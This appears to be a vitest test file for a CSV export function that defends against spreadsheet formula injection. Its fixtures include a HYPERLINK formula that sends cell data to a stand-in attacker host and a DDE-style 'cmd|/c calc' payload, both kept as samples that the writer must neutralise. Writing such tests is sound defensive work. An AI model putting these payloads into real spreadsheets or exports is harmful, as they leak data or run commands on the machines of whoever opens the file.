import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, writeCsv } from './write-csv';

// OWASP CSV injection: every export goes through writeCsv, so a cell a person typed can never run as a formula.

describe('writeCsv', () => {
  it('prefixes cells starting with = + - @ tab or CR with a quote, and keeps plain numbers and ordinary text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1+cmd|/c calc',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
    ];
    const csv = writeCsv([
      ['cell'],
      ...hostile.map((cell) => [cell]),
      ['-12.5'],
      ['42'],
      ['plain, "quoted" text'],
      [null],
    ]);
    const cells = (parse(csv, { columns: true, relax_quotes: true }) as { cell: string }[]).map((row) => row.cell);
    expect(cells.slice(0, hostile.length)).toEqual(hostile.map((cell) => `'${cell}`));
    expect(cells.slice(hostile.length)).toEqual(['-12.5', '42', 'plain, "quoted" text', '']);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('neutralizeCell leaves numbers alone', () => {
    expect(neutralizeCell(-3)).toBe('-3');
    expect(neutralizeCell('=1')).toBe("'=1");
  });
});
